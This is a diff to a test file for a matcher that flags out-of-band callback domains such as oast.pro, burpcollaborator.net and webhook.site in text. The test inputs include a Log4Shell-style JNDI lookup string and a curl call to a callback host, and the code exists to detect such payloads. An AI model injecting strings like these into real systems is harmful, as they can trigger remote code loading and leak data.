@@ -6,7 +6,7 @@ const match = callbackMatcher(['oast.pro', '*.burpcollaborator.net', 'interact.s
 describe('callbackMatcher', () => {
   it('finds a listed domain as a host suffix at a label boundary, any case, with its tier', () => {
     expect(match('http://cu8n2v.OAST.pro/x')).toEqual({ domain: 'oast.pro', tier: 'callback', at: 14 });
-    expect(match('${jndi:ldap://a.b.burpcollaborator.net/a}')?.domain).toBe('burpcollaborator.net');
+    expect(match('$' + '{jndi:ldap://a.b.burpcollaborator.net/a}')?.domain).toBe('burpcollaborator.net');
     expect(match('interact.sh')?.at).toBe(0);
     expect(match('curl https://webhook.site/abc')?.tier).toBe('shared');
     expect(match('x.oast.pro.')?.domain).toBe('oast.pro');
@@ -30,7 +30,7 @@ describe('callbackMatcher', () => {
   });
 
   it('shows the text around a match', () => {
-    expect(around('a'.repeat(100) + 'x.oast.pro' + 'b'.repeat(100), 100, 20)).toBe(
+    expect(around(`${'a'.repeat(100)}x.oast.pro${'b'.repeat(100)}`, 100, 20)).toBe(
       `…${'a'.repeat(10)}x.oast.pro…`,
     );
     expect(around('x.oast.pro', 0)).toBe('x.oast.pro');
